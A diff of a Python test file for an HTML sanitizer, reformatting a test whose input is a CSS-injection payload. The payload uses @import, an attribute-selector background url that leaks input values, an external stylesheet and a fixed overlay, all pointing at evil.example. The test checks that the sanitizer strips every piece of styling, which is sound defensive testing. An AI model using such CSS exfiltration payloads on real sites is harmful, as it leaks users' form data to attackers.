@@ -161,6 +161,7 @@ def test_H09_a_line_feed_at_the_start_of_preformatted_text_is_settled_at_once():
 def test_H14_nothing_of_style_is_left():
     attack = (
         "<style>@import url(https://evil.example/x);input[value^=a]{background:url(https://evil.example/a)}</style>"
-        '<link rel=stylesheet href=//evil.example/x><p style="position:fixed;background:url(https://evil.example/b)" class="overlay">Fog.</p>'
+        "<link rel=stylesheet href=//evil.example/x>"
+        '<p style="position:fixed;background:url(https://evil.example/b)" class="overlay">Fog.</p>'
     )
     assert safe_html(attack, BASE) == "<p>Fog.</p>"
